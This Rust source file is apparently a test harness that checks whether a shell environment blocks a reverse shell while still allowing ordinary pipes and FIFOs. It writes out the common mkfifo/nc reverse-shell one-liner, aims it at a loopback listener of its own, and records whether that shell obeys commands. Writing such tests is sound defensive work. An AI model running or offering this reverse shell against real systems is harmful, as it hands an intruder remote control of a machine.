//! Work at a shell, as people and attackers do it.

use std::{
    io::{Read as _, Write as _},
    net::{TcpListener, TcpStream},
    process::{Child, Command, Output, Stdio},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use anyhow::{Context, Result};

/// What the attacker types.
const TYPED: &[u8] = b"echo owned-$((6*7)); exit\n";
/// What a shell that obeys the attacker says.
const OBEYED: &str = "owned-42";
/// How long the attacker waits for a shell.
const ATTACKER_WAITS: Duration = Duration::from_secs(30);

/// Everyday work with pipes and FIFOs: a name, and what one types.
pub const BENIGN: &[(&str, &str)] = &[
    ("a pipeline", "ls -l /bin | sort -k5 | head -3 | wc -l"),
    ("process substitution", "diff <(ls /bin) <(ls /bin)"),
    (
        "a FIFO in a home directory",
        "cd /home/user && mkfifo jobs && (cat jobs | wc -c > counted &) && echo hello > jobs && rm jobs",
    ),
    ("an archive through a pipe", "tar cf - /etc | gzip | gunzip | tar tf - | wc -l"),
    ("a command's output", "echo $(date | cut -d: -f1)"),
];

/// Runs a script in bash to its end.
///
/// # Errors
/// Where bash cannot be started.
pub fn run(script: &str) -> Result<Output> {
    let mut bash = Command::new("/bin/bash");
    bash.args(["-c", script]).env("PATH", "/bin").stdin(Stdio::null());
    bash.output().context("cannot start bash")
}

/// The reverse shell of the public cheat sheets.
pub fn reverse_shell(port: u16) -> String {
    format!("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 {port} > /tmp/f")
}

/// The attacker's end: listens, types, and reads.
pub struct Attacker {
    /// Where it listens.
    pub port: u16,
    /// Set when the victim's script has ended: who has not called by then will not.
    over: Arc<AtomicBool>,
    seen: JoinHandle<String>,
}

/// What came of an attack.
pub struct Attack {
    /// Whether a shell obeyed the attacker.
    pub obeyed: bool,
    /// What the attacker saw.
    pub seen: String,
    /// What the victim's shell said on its standard error.
    pub complaints: String,
    /// The process id of the shell that ran the script.
    pub pid: u32,
}

impl Attacker {
    /// Starts to listen.
    ///
    /// # Errors
    /// Where there is no network.
    pub fn listen() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").context("cannot listen on the loopback network")?;
        let port = listener.local_addr()?.port();
        listener.set_nonblocking(true)?;
        let over = Arc::new(AtomicBool::new(false));
        let told = Arc::clone(&over);
        Ok(Self { port, over, seen: thread::spawn(move || converse(&listener, &told)) })
    }
}

/// Plays the reverse shell against an attacker of its own.
///
/// # Errors
/// Where the attack could not even be tried.
pub fn attack() -> Result<Attack> {
    let attacker = Attacker::listen()?;
    let mut bash = Command::new("/bin/bash");
    bash.args(["-c", &reverse_shell(attacker.port)]).env("PATH", "/bin").stdin(Stdio::null());
    let child = bash.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().context("cannot start bash")?;
    let pid = child.id();
    let complaints = words(child)?;
    attacker.over.store(true, Ordering::Relaxed);
    let seen = attacker.seen.join().unwrap_or_else(|_| "the attacker panicked".to_owned());
    std::fs::remove_file("/tmp/f").ok();
    Ok(Attack { obeyed: seen.contains(OBEYED), seen, complaints, pid })
}

/// Waits for the attack to end; one that hangs (its shell blocked for ever) is ended.
fn words(mut child: Child) -> Result<String> {
    let deadline = Instant::now() + ATTACKER_WAITS + Duration::from_secs(5);
    while child.try_wait()?.is_none() {
        if Instant::now() > deadline {
            child.kill()?;
        }
        thread::sleep(Duration::from_millis(20));
    }
    let mut words = String::new();
    // What bash left behind may still hold the pipe: read what is there, not to its end.
    if let Some(mut stream) = child.stderr.take() {
        let mut buffer = [0; 4096];
        let length = stream.read(&mut buffer)?;
        words = String::from_utf8_lossy(&buffer[..length]).into_owned();
    }
    Ok(words)
}

fn converse(listener: &TcpListener, over: &AtomicBool) -> String {
    let deadline = Instant::now() + ATTACKER_WAITS;
    while Instant::now() < deadline && !over.load(Ordering::Relaxed) {
        if let Ok((stream, _)) = listener.accept() {
            return talk(stream).unwrap_or_else(|error| format!("(connection broke: {error})"));
        }
        thread::sleep(Duration::from_millis(20));
    }
    "(nobody called)".to_owned()
}

fn talk(mut stream: TcpStream) -> std::io::Result<String> {
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    // The victim may be gone already; what it sent is worth reading all the same.
    stream.write_all(TYPED).ok();
    let mut seen = Vec::new();
    let mut buffer = [0; 1024];
    while let Ok(length @ 1..) = stream.read(&mut buffer) {
        seen.extend_from_slice(&buffer[..length]);
        if String::from_utf8_lossy(&seen).contains(OBEYED) {
            break;
        }
    }
    Ok(String::from_utf8_lossy(&seen).into_owned())
}
